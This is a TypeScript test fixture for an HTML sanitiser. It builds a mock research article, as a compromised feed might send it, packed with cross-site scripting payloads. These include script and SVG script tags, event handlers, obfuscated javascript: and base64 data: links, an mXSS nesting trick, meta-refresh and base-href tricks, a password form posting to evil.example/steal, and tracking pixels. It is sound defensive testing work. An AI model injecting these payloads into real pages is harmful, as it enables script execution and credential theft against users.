// The article a compromised content feed might send: ordinary writing beside script, event
// handlers, javascript: and data: links, frames, SVG with script, CSS expressions, forms and a link
// to another site. The front end must show the writing and render the rest harmless
// (docs/decisions.md, "HTML sanitiser"). Served by id only, and only by a gateway with test
// control, so no user ever reads it.
import type { ResearchArticle } from '../../src/core/protocol/research';
import { IMAGE_DOMAIN_MARK } from '../db/articles';

export const HOSTILE_ARTICLE_ID = 'sanitiser-fixture';

const HOSTILE = [
  '<script>window.__pwned = "script"; alert("script")</script>',
  '<noscript><p>noscript body</p></noscript>',
  '<img src="x" onerror="window.__pwned = \'onerror\'; alert(\'onerror\')" alt="broken on purpose">',
  '<p onclick="window.__pwned = \'onclick\'" onmouseover="alert(1)">Hover and click this paragraph: nothing happens.</p>',
  '<p><a href="javascript:window.__pwned=\'href\';alert(\'href\')">A javascript: link</a>, <a href="JaVaScRiPt:alert(1)">another</a>, <a href="java&#x09;script:alert(1)">a third</a>.</p>',
  '<iframe src="https://evil.example/frame" title="frame"></iframe>',
  '<svg width="10" height="10"><script>window.__pwned = "svg"</script><a href="javascript:alert(1)"><text>svg</text></a></svg>',
  '<div style="background:url(javascript:alert(1)); width: expression(alert(1))">A styled block with a CSS expression.</div>',
  '<style>body { display: none } * { background: url("https://evil.example/css.gif") }</style>',
  '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">A data: page</a> and <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="svg data"></p>',
  '<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Send</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<img src="https://evil.example/pixel.gif" alt="tracking pixel"><img src="//evil.example/pixel2.gif" alt="protocol-relative pixel">',
  '<p><a href="https://evil.example/phish">A link to another site</a> keeps its words and loses its address.</p>',
  '<!-- a comment that must not survive -->',
].join('\n');

export const HOSTILE_ARTICLE: ResearchArticle = {
  id: HOSTILE_ARTICLE_ID,
  title: 'Sanitiser fixture',
  summary: 'A test fixture: markup from a compromised feed that must do nothing.',
  publishedAt: Date.UTC(2024, 0, 1),
  author: 'Test control',
  readMinutes: 1,
  coin: 'ETH',
  lang: 'en',
  html: [
    '<h2>Where the yield comes from</h2>',
    `<p><img src="${IMAGE_DOMAIN_MARK}/images/coins/ETH.svg" alt="Ether badge" width="48" height="48"></p>`,
    HOSTILE,
  ].join('\n'),
};
